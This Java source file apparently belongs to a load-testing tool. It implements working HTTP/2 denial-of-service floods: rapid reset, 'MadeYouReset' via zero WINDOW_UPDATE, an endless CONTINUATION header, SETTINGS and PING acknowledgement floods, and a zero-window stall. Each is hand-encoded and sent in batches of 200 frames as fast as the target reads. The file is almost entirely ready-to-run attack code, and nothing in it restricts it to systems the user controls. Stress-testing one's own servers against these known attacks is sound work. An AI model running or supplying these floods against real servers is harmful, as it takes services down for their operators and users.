package dev.verge.load.floods;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicBoolean;

/** Floods of HTTP/2 frames (RFC 9113 §10.5) in the clear, each as fast as the node reads. */
final class Http2Flood {
    private static final int BATCH = 200;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;

    /** GET, /, http by their static numbers and localhost spelt out (RFC 7541, appendix A and §6.2.2). */
    private static final byte[] REQUEST = {
        (byte) 0x82, (byte) 0x84, (byte) 0x86, 0x01, 9, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'
    };

    private Http2Flood() {}

    /** What one batch is made of. */
    private interface Batch {
        void add(ByteBuffer to, int stream);
    }

    /** Requests that are taken back at once: rapid reset. */
    static void rapidReset(Socket socket, AtomicBoolean stop) throws IOException {
        flood(socket, stop, (to, stream) -> {
            frame(to, HEADERS, END_HEADERS | END_STREAM, stream, REQUEST);
            frame(to, RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
        });
    }

    /** Requests that the node is made to reset: MadeYouReset. */
    static void madeYouReset(Socket socket, AtomicBoolean stop) throws IOException {
        flood(socket, stop, (to, stream) -> {
            frame(to, HEADERS, END_HEADERS, stream, REQUEST);
            frame(to, WINDOW_UPDATE, 0, stream, new byte[4]);
        });
    }

    /** A head that never ends. */
    static void continuation(Socket socket, AtomicBoolean stop) throws IOException {
        boolean[] begun = {false};
        flood(socket, stop, (to, stream) -> {
            if (!begun[0]) {
                begun[0] = true;
                frame(to, HEADERS, 0, 1, REQUEST);
            }
            frame(to, CONTINUATION, 0, 1, new byte[] {0x00, 1, 'a', 1, 'b'});
        });
    }

    /** Settings that each want an answer. */
    static void settings(Socket socket, AtomicBoolean stop) throws IOException {
        flood(socket, stop, (to, stream) -> frame(to, SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 0x7f, 0}));
    }

    /** Pings that each want an answer. */
    static void ping(Socket socket, AtomicBoolean stop) throws IOException {
        flood(socket, stop, (to, stream) -> frame(to, PING, 0, 0, new byte[8]));
    }

    /** Requests whose answers may not be sent. */
    static void zeroWindow(Socket socket, AtomicBoolean stop) throws IOException {
        OutputStream out = begin(socket, new byte[] {0, 4, 0, 0, 0, 0});
        ByteBuffer batch = ByteBuffer.allocate(1 << 16);
        for (int i = 0; i < BATCH; i++) {
            frame(batch, HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, REQUEST);
        }
        out.write(batch.array(), 0, batch.position());
        byte[] answer = new byte[1 << 14];
        InputStream in = socket.getInputStream();
        while (!stop.get()) {
            try {
                if (in.read(answer) < 0) {
                    return;
                }
            } catch (java.net.SocketTimeoutException quiet) {
                // It waits as long as the node does.
            }
        }
    }

    private static OutputStream begin(Socket socket, byte[] settings) throws IOException {
        OutputStream out = socket.getOutputStream();
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
        ByteBuffer first = ByteBuffer.allocate(64);
        frame(first, SETTINGS, 0, 0, settings);
        out.write(first.array(), 0, first.position());
        return out;
    }

    private static void flood(Socket socket, AtomicBoolean stop, Batch batch) throws IOException {
        OutputStream out = begin(socket, new byte[0]);
        InputStream in = socket.getInputStream();
        byte[] answer = new byte[1 << 14];
        int stream = 1;
        while (!stop.get()) {
            ByteBuffer frames = ByteBuffer.allocate(1 << 16);
            for (int i = 0; i < BATCH; i++, stream += 2) {
                batch.add(frames, stream);
            }
            out.write(frames.array(), 0, frames.position());
            while (in.available() > 0) {
                if (in.read(answer) < 0) {
                    return;
                }
            }
        }
    }

    private static void frame(ByteBuffer to, int type, int flags, int stream, byte[] payload) {
        to.put((byte) (payload.length >> 16)).putShort((short) payload.length);
        to.put((byte) type).put((byte) flags).putInt(stream).put(payload);
    }
}
